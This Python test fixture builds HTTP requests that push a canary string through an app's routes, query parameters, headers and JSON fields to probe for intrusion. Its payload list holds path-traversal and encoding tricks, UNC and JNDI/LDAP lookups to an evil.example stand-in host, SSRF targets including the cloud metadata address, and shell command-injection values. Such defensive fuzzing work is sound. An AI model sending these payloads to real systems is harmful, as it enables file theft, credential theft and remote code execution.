"""Requests that hold paths and addresses, in every place where one may be taken for one."""

from tests.faults.intrusion.hostile import request

CANARY = "zqcanary"
PATHS = (
    f"../{CANARY}", f"../../../../../../../../etc/{CANARY}", f"..%2f..%2f{CANARY}", f"..%252f..%252f{CANARY}",
    f"%2e%2e/%2e%2e/{CANARY}", f"..\\..\\{CANARY}", f"..%5c..%5c{CANARY}", f"....//....//{CANARY}", f"/etc/{CANARY}",
    f"//etc/{CANARY}", f"///{CANARY}", f"/windows/{CANARY}.ini", f"C:\\Windows\\{CANARY}", f"C:/Windows/{CANARY}",
    f"\\\\evil.example\\share\\{CANARY}", f"%5c%5cevil.example%5c{CANARY}", f"~/{CANARY}", f"~root/{CANARY}",
    f"{CANARY}%00.png", f"..;/{CANARY}", f"%c0%ae%c0%ae/{CANARY}", f"%uff0e%uff0e/{CANARY}", f"..%ef%bc%8f{CANARY}",
    f"file:///etc/{CANARY}", f"file://localhost/{CANARY}", f"http://{CANARY}.evil.example/",
    f"http://127.0.0.1:1/{CANARY}", f"http://169.254.169.254/{CANARY}", f"//{CANARY}.evil.example/x",
    f"gopher://{CANARY}.evil.example/", f"$(touch {CANARY})", f"`touch {CANARY}`", f"|touch {CANARY}",
    f"${{jndi:ldap://{CANARY}.evil.example/a}}", f"{{{{{CANARY}}}}}", f"%s%n{CANARY}",
)  # fmt: skip
ROUTES = (
    "/", "/assets/", "/api/", "/api/images/", "/api/export/", "/api/predictor/", "/tensorboard/", "/run/", "/static/",
    "/tensorboard/data/plugin/projector/sprite_image?name=", "/proxy=", "/file=", "/%2e%2e/",
)  # fmt: skip
KEYS = (
    "path", "name", "file", "filename", "url", "uri", "logdir", "run", "image", "version", "format", "client", "label",
    "order", "next", "callback", "template", "redirect", "root", "dir", "import", "proxy_url",
)  # fmt: skip
HEADERS = (
    "Referer", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Host", "X-Forwarded-Prefix", "X-Sendfile", "Range",
    "If-None-Match", "If-Range", "Accept", "Cookie", "User-Agent", "Content-Disposition", "Destination",
)  # fmt: skip
FIELDS = ("image", "label", "client", "source", "id", "group", "strategy", "path", "url", "file", "annotations")


def requests_with_paths(port: int, token: str) -> list[bytes]:
    """All of them, with the token."""
    bearer = {"authorization": f"Bearer {token}"}
    made = []
    for path in PATHS:
        printable = path.replace(" ", "%20")
        made += [request(port, f"{route}{printable}", headers=bearer) for route in ROUTES]
        made += [request(port, f"/api/annotations?{key}={printable}", headers=bearer) for key in KEYS]
        made += [request(port, f"/api/images/0?{key}={printable}&size=64", headers=bearer) for key in KEYS]
        made += [request(port, f"/api/queue?{key}={printable}", headers=bearer) for key in KEYS]
        made += [request(port, "/api/export", headers=bearer | {name: path}) for name in HEADERS]
        made += [request(port, "/", headers=bearer | {name: path}) for name in HEADERS]
        text = path.replace("\\", "\\\\")
        for field in FIELDS:
            body = f'{{"image": 0, "label": "positive", "{field}": "{text}"}}'.encode()
            made += [
                request(port, f"/api/{route}", "POST", body, bearer) for route in ("annotations", "undo", "import")
            ]
            made.append(request(port, "/api/strategy", "PUT", f'{{"{field}": "{text}"}}'.encode(), bearer))
        made.append(request(port, printable, headers=bearer))
    return made
